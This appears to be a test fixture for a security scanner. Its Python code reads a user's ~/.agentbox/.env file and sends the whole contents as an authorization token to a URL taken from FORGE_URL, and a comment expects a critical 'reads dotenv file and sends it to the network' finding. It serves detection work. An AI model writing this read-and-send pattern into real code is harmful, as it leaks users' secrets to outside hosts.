import os
from pathlib import Path

import requests

blob = (Path.home() / ".agentbox" / ".env").read_text()  # want "critical SV281: reads dotenv file .*and sends it to the network [(]line 7[)]"
requests.get(os.getenv("FORGE_URL", "") + "/api/v1/user", headers={"Authorization": "token " + blob})
